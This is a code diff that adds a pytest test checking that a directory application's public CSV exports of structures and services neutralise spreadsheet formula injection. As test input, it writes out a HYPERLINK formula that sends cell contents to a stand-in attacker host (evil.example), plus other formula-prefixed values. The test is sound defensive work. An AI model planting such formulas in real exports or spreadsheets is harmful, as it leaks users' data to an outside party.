@@ -91,3 +91,17 @@ def test_only_region_admins_import(api, request, who, ajaccio):
     response = api.post(IMPORT, _files(STRUCTURES, SERVICES), format="multipart")
     assert response.status_code == 403
     assert not Structure.objects.filter(slug="partenaire-asso").exists()
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'
+
+
+@pytest.mark.parametrize("kind", ["structures", "services"])
+def test_csv_exports_neutralise_formulas(api, service_a, kind):
+    """A member can rename its structure and service: the public CSV must not carry a formula (review M1)."""
+    Structure.objects.filter(pk=service_a.structure_id).update(name=HYPERLINK)
+    Service.objects.filter(pk=service_a.pk).update(name="@SUM(A1)", description="-2+3 " + HYPERLINK)
+    text = api.get(f"/api/v1/exports/data-inclusion/{kind}.csv").content.decode()
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert any(cell.startswith("'") for cell in cells)
